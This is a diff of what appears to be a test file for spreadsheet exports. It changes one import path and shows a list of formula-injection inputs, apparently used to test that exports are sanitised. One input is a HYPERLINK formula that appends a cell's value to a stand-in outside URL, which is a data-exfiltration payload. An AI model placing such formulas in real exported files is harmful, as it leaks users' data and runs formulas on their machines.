@@ -16,7 +16,7 @@ from orchestration.build import database
 from orchestration.exports import spreadsheet
 from orchestration.home import disclosures
 from orchestration.settings import Settings
-from tests.faults.made_files import pupil, pupils_csv
+from tests.support.made_files import pupil, pupils_csv
 
 RUN = [
     '=HYPERLINK("http://example.org/?"&A1,"see")', "+1+1", "-2+3", "@SUM(A1)", "=1", "\t=1+1", "\r=1+1", "\tplain",
